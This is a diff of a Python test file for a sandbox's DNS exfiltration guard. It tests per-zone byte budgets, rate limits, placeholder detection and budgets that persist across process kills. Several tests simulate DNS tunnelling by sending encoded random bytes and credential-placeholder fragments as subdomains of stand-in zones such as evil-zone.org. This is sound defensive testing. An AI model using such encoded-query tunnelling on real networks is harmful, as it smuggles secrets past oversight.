@@ -5,15 +5,14 @@ survives whoever dies; pieces of placeholders carry nothing. Each beside its con
 import base64
 import os
 import random
-import signal
 
-from dns_wire import Upstream, address, soa
+from dns_wire import Client, Upstream, address, soa
 from faults import pid_of
-from lab import Refused, kill, main, wait_for
+from lab import Refused, kill, kill_group, main, wait_for
 from test_dns import EACH_EVENT, make
 
 FORWARD = "  answer: forward"
-RULES = '  - {name: up, hosts: ["*.up.test", exact.up.test], action: allow}\n  - {name: elsewhere, hosts: ["*.other.test"], ports: [PORT], action: allow}'
+RULES = '  - {name: up, hosts: ["*.up.test", exact.up.test], action: allow}\n  - {name: elsewhere, hosts: ["*.other.test"], ports: [PORT], action: allow}\n  - {name: third, hosts: ["*.third.test"], action: allow}'
 BUDGET_BYTES = 1024 // 8
 
 
@@ -21,10 +20,10 @@ def script(qname, kind):
     return (0, [address(qname, "127.0.0.3", 60)] if kind == 1 else [], [] if kind == 1 else [soa(60)])
 
 
-def guarded(exfiltration="", mode="", **kw):
+def guarded(exfiltration="", mode="", rules=RULES, limits="", **kw):
     up = Upstream(script)
-    lab = make(resolver=FORWARD, rules=RULES, upstreams=f"127.0.0.1:{up.port}", start=False,
-               tail=EACH_EVENT + "\n" + (f"exfiltration: {{{exfiltration}}}\n" if exfiltration else "") + mode, **kw)
+    lab = make(resolver=FORWARD, rules=rules, upstreams=f"127.0.0.1:{up.port}", start=False,
+               tail=EACH_EVENT.replace("}", f", {limits}}}" if limits else "}") + "\n" + (f"exfiltration: {{{exfiltration}}}\n" if exfiltration else "") + mode, **kw)
     lab.up = up
     lab.patched()
     return lab
@@ -34,9 +33,9 @@ def coded(n=16, encode=lambda b: base64.b32encode(b).decode().rstrip("=").lower(
     return encode(os.urandom(n))
 
 
-def carried(lab, zone):
-    """Different names of a zone that came to the server."""
-    return {q[0].lower() for q in lab.up.asked if q[0].lower().endswith("." + zone)}
+def carried(lab, zone, since=0):
+    """Different names of a zone that came to the server, after so many questions."""
+    return {q[0].lower() for q in lab.up.asked[since:] if q[0].lower().endswith("." + zone)}
 
 
 def code_of(lab, name):
@@ -65,7 +64,7 @@ def test_what_a_wildcard_may_carry():
             came = carried(lab, "up.test")
             assert codes[0] == "NOERROR" and codes[-1] == "REFUSED", (how, codes)
             assert came == {q for q, c in zip(sent, codes) if c == "NOERROR"}, how
-            assert len(came) * (16 if how != "words" else 12) <= 2 * BUDGET_BYTES, (how, len(came))  # words carry six bits each
+            assert 0 < len(came) * (16 if how != "words" else 12) <= BUDGET_BYTES, (how, len(came))
             e = finding(lab, **{"class": "dns_tunnel"}, agent="coder")
             assert e["client"] == "127.0.0.1" and e["severity"] in ("medium", "critical") and "zone=up.test" in e["sentence"], e
             e = lab.event(lambda e: e.get("code") == "exfiltration", ("dns",))
@@ -110,7 +109,6 @@ def test_connect():
 def test_observe_mode_cuts_before_data():
     """No rule lets the zone through, `mode: observe` does; the first name that looks encoded is not sent. The control: action flag."""
     with guarded(mode="mode: observe\n") as lab:
-        assert lab.dns.ask("www.evil.example.org").code in ("NOERROR", "REFUSED")
         for _ in range(20):
             assert lab.dns.ask(f"{coded()}.evil-zone.org").code == "REFUSED"
         assert not carried(lab, "evil-zone.org")
@@ -125,10 +123,23 @@ def test_observe_mode_has_a_bound():
     """A patient encoder that never looks encoded (one short word at a time) is bounded by bits: at most 256 bytes a zone in a day."""
     words = [w + str(i) for w in ("mail", "app", "dev", "shop", "blog", "news", "data", "test") for i in range(32)]
     with guarded(mode="mode: observe\n") as lab:
-        got = 0
-        for _ in range(600):
-            got += lab.dns.ask(f"{random.choice(words)}.slow-zone.org").code == "NOERROR"
-        assert 0 < got <= 256, got  # a byte each
+        codes = [lab.dns.ask(f"{word}.slow-zone.org").code for word in random.sample(words, len(words))]
+        assert "REFUSED" in codes and 0 < len(carried(lab, "slow-zone.org")) <= 256, len(carried(lab, "slow-zone.org"))  # a byte each
+
+
+def test_new_names_do_not_own_the_disk():
+    """Under `hosts: ["*"]` every zone is new and costs a little, and what was spent is saved again and again: an agent has so many of these a second. Names
+    that a rule writes go on meanwhile, and so does another agent."""
+    agents = "  - {name: coder, identify: [{source: 127.0.0.1/32}]}\n  - {name: other, identify: [{source: 127.0.0.21/32}]}\n"
+    with guarded(rules='  - {name: exact, hosts: [exact.up.test], action: allow}\n  - {name: any, hosts: ["*"], action: allow}', limits="dns_rate: 100000", agents=agents) as lab:
+        other, codes = Client(lab.dns_port, source="127.0.0.21"), []
+        for i in range(12000):
+            codes.append(lab.dns.ask(f"w{i}.zone{i}.org").code)
+            if codes[-1] != "NOERROR":
+                break
+        e = lab.event(lambda e: e.get("code") == "rate_limited", ("dns",))
+        assert len(codes) > 500 and "new names" in e["message"] and e["agent"] == "coder", (len(codes), codes[-1])
+        assert other.ask("www.zone-of-another.org").code == "NOERROR" and lab.dns.ask("exact.up.test").code == "NOERROR"
 
 
 # ---------------------------------------------------------------- canary
@@ -142,8 +153,8 @@ def test_pieces_of_placeholders():
         shapes = {"plain": piece, "upper": piece.upper(), "reversed": piece[::-1], "hex": piece.encode().hex(), "base32": base64.b32encode(piece.encode()).decode().rstrip("=").lower(),
                   "dotted": piece[:6] + "." + piece[6:]}
         for how, shape in shapes.items():
-            at, name = lab.mark(), f"{shape.lower()}.up.test"
-            assert lab.dns.ask(name).code == "REFUSED" and name not in carried(lab, "up.test"), how
+            at, name = lab.mark(), f"{shape}.up.test"
+            assert lab.dns.ask(name).code == "REFUSED" and name.lower() not in carried(lab, "up.test"), how
             e = finding(lab, at, **{"class": "dns_placeholder"})
             assert e["severity"] == "critical" and e["score"] == 100 and "github" in e["sentence"] and piece not in e["sentence"], (how, e)
         assert lab.dns.ask("q7w2e9r4t8y1.up.test").code == "NOERROR"  # the control: as long, and nobody's
@@ -152,27 +163,88 @@ def test_pieces_of_placeholders():
         assert e["severity"] == "critical" and e["request_id"], e
 
 
+def test_what_a_rule_writes_is_no_piece():
+    """A literal placeholder with words in it that hosts have too: the hosts that rules write go on, what the agent puts in front is looked at."""
+    literal = "token-up-test-and-exact-" + "x9" * 8
+    with guarded(credentials=f'''  - name: worded
+    agents: [coder]
+    hosts: [exact.up.test]
+    slots: ["header:x-worded"]
+    placeholder: {literal}
+    source: {{file: REAL2}}
+''') as lab:
+        assert lab.dns.ask("exact.up.test").code == "NOERROR" and lab.dns.ask("www.up.test").code == "NOERROR"
+        assert lab.dns.ask("tokenuptestand.up.test").code == "REFUSED"  # the control
+        assert finding(lab, **{"class": "dns_placeholder"})["severity"] == "critical"
+
+
+def test_long_placeholders():
+    """A literal of 1,024 characters (a JWT may have as many): the server starts, and a piece of its middle is known."""
+    literal = "".join(random.Random(5).choices("abcdefghijklmnopqrstuvwxyz0123456789", k=1024))
+    with guarded(credentials=f'''  - name: long
+    agents: [coder]
+    hosts: [exact.up.test]
+    slots: ["header:x-long"]
+    placeholder: {literal}
+    source: {{file: REAL2}}
+''') as lab:
+        assert lab.dns.ask(f"{literal[700:715]}.up.test").code == "REFUSED" and lab.dns.ask(f"{literal[1012:]}.up.test").code == "REFUSED"
+        assert lab.dns.ask("abcdefgh-ijklmno.up.test").code == "NOERROR"  # the control
+
+
+# ---------------------------------------------------------------- what policy refuses anyway
+
+
+def test_refused_names_are_looked_at():
+    """An attempt is in the log, by CONNECT and by a request to the proxy; it costs nothing, and no packet leaves. The controls: an ordinary
+    name, and a placeholder's length of letters."""
+    with guarded() as lab:
+        piece = lab.placeholder[11:23]
+        rows = [(f"{coded()}.evil-zone.org", "host_label", "medium"), (f"{bytes.hex(os.urandom(16))}.evil-zone.org", "host_label", "medium"),
+                (f"{piece}.evil-zone.org", "placeholder_elsewhere", "critical"), ("www.evil-zone.org", None, None), ("status-page.evil-zone.org", None, None)]
+        for name, cls, severity in rows:
+            at = lab.mark()
+            c = lab.proxy()
+            m = c.ask("GET", f"http://{name}/", host=name)
+            c.close()
+            assert (m.status, m.code) == (403, "host_denied"), m
+            e = lab.event(lambda e: e["host"] == name, after=at)
+            assert e["findings"] == ([cls] if cls else []), (name, e)
+            if cls:
+                f = finding(lab, at, **{"class": cls}, request_id=e["request_id"])
+                assert f["severity"] == severity and f["agent"] == "coder" and "block" in f["sentence"] and piece not in f["sentence"], f
+            at = lab.mark()
+            try:
+                lab.get(name)
+            except Refused as r:
+                assert r.message.code == "host_denied"
+            e = lab.event(lambda e: e["host"] == name, after=at)
+            assert e["findings"] == ([cls] if cls else []), (name, e)
+        assert not lab.up.asked, lab.up.names()
+
+
 # ---------------------------------------------------------------- what was spent survives
 
 
 def spend(lab, zone="up.test"):
-    for _ in range(40):
+    """How many names it took."""
+    for n in range(40):
         if lab.dns.ask(f"{coded()}.{zone}").code == "REFUSED":
-            return
+            return n
     raise AssertionError("it is never spent")
 
 
 def test_spent_survives_whoever_dies():
     """The resolver killed, the whole server killed, the server stopped and started: what was spent stays spent. The control: another zone, and a file that is gone."""
     with guarded() as lab:
-        spend(lab)
+        fresh = spend(lab)
+
         def refused():
             return lab.dns.ask(f"{coded()}.up.test").code == "REFUSED"
         kill(pid_of(lab, "resolver"))
         wait_for(lambda: lab.dns.ask("exact.up.test").code == "NOERROR", "a new resolver")
         assert refused()
-        os.killpg(lab.proc.pid, signal.SIGKILL)
-        lab.proc.wait()
+        kill_group(lab.proc)
         lab.proc = None
         lab.start()
         assert refused()
@@ -182,9 +254,8 @@ def test_spent_survives_whoever_dies():
         assert lab.dns.ask(f"{coded()}.other.test").code == "NOERROR", "the control: another zone"
         lab.stop()
         lab.start()  # killed before the first save of its own: what may have gone since is charged all the same
-        assert lab.dns.ask(f"{coded()}.third.test").code in ("NOERROR", "REFUSED")
-        os.killpg(lab.proc.pid, signal.SIGKILL)
-        lab.proc.wait()
+        assert lab.dns.ask(f"{coded(8)}.third.test").code == "NOERROR"
+        kill_group(lab.proc)
         lab.proc = None
         lab.start()
         assert refused()
@@ -203,8 +274,7 @@ def test_spent_survives_whoever_dies():
                 f.write(os.urandom(8))
         lab.start()
         assert b"half spent" in lab.log_bytes()
-        spend(lab)
-        assert len(carried(lab, "up.test")) > 0
+        assert 0 < spend(lab) <= fresh // 2 + 1 < fresh, fresh
 
 
 if __name__ == "__main__":
